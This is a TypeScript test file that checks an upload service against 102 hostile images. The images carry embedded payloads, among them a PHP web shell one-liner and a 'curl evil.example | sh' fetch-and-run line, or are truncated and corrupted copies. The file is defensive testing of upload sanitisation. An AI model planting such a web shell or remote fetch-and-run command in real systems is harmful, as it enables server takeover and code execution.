import sharp from 'sharp';
import { files, refusedFiles } from '../../db/schema';
import { makeApp } from '../../testing/make-app';
import { addUser, enter } from '../../testing/people';
import { type Bytes, emptyZip, join, sampleImage } from '../../testing/sample-files';
import { formOf, uploadApp } from '../../testing/upload-app';

const kinds = ['jpeg', 'png', 'webp'] as const;
type Kind = (typeof kinds)[number];

/** What others would run, or be caught by, if they got it back. */
const payloads: Record<string, Bytes> = {
  'a web page': join('<html><script>alert(1)</script></html>'),
  'a drawing that acts': join('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'a server script': join('<?php system($_GET["c"]); ?>'),
  'a program': join('MZ\u0090\u0000\u0003', 'This program cannot be run in DOS mode.'),
  'an archive': join('PK\u0003\u0004', 'pwned.sh', emptyZip),
  'a shell script': join('#!/bin/sh\ncurl evil.example | sh\n'),
};

/** The picture with a text in what a camera writes. */
async function noted(kind: Kind, payload: Bytes): Promise<Bytes> {
  const text = Buffer.from(payload).toString('latin1').replaceAll('\u0000', ' ');
  const notes = { IFD0: { ImageDescription: text, Artist: text, Copyright: text } };
  const drawn = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#c08056' } })
    .withExif(notes)
    [kind]()
    .toBuffer();
  return new Uint8Array(drawn);
}

/** Some bytes of it turned over, none of its first ones, so that it is still taken for a picture. */
function broken(bytes: Bytes, seed: number): Bytes {
  const copy = bytes.slice();
  for (let step = 1; step <= 12; step += 1) {
    const at = 16 + ((seed * 7919 + step * 104_729) % (copy.length - 16));
    copy[at] = (copy[at] ?? 0) ^ 0xff;
  }
  return copy;
}

interface Hostile {
  what: string;
  kind: Kind;
  make: () => Promise<Bytes>;
  payload?: Bytes;
}

const eight = [1, 2, 3, 4, 5, 6, 7, 8];
const hostile: Hostile[] = kinds.flatMap((kind) => [
  ...Object.entries(payloads).flatMap(([what, payload]) => [
    { what: `${what} in its notes`, kind, payload, make: () => noted(kind, payload) },
    { what: `${what} behind its end`, kind, payload, make: async () => join(await sampleImage(kind), payload) },
    { what: `${what} before its start`, kind, payload, make: async () => join(payload, await sampleImage(kind)) },
  ]),
  ...eight.map((part) => ({
    what: `cut at ${part} of 9 parts`,
    kind,
    make: async () => {
      const whole = await sampleImage(kind, 640, 480);
      return whole.slice(0, Math.floor((whole.length * part) / 9));
    },
  })),
  ...eight.map((seed) => ({
    what: `broken in twelve places, ${seed}`,
    kind,
    make: async () => broken(await sampleImage(kind, 640, 480), seed),
  })),
]);

test('[SEC-32] [DOC-06] of 102 hostile pictures each is refused, or kept as a picture and nothing else', async () => {
  expect(hostile).toHaveLength(102);
  // In brief every fourth, all kinds and sorts among them.
  const tried = process.env.TVACHA_FULL ? hostile : hostile.filter((_one, at) => at % 4 === 0);
  const test$ = await makeApp();
  const { token } = await enter(test$, await addUser(test$.db));
  const faults: string[] = [];
  const outcomes = { refused: 0, redrawn: 0 };
  for (const { what, kind, make, payload } of tried) {
    const response = await uploadApp(test$)({ body: formOf('picture', await make(), `a.${kind}`) }, token);
    const [row] = await test$.db.delete(files).returning();
    // Else the day's limit of refused files answers for the later ones.
    await test$.db.delete(refusedFiles);
    const note = (why: string) => faults.push(`${kind}, ${what}: ${why}`);
    if (response.status === 400 && !row) {
      outcomes.refused += 1;
      continue;
    }
    if (response.status !== 200 || !row) {
      note(`answered ${response.status}`);
      continue;
    }
    outcomes.redrawn += 1;
    const kept = await new Response(await test$.files.read(row.key)).bytes();
    const { format, exif, xmp, iptc, icc } = await sharp(kept).metadata();
    if (format !== kind || exif || xmp || iptc || icc) note('is kept with its notes');
    if (payload && Buffer.from(kept).includes(Buffer.from(payload))) note('is kept with what it hides');
  }
  expect(faults).toEqual([]);
  expect(outcomes.refused).toBeGreaterThan(tried.length / 2);
  expect(outcomes.redrawn).toBeGreaterThan(0);
});
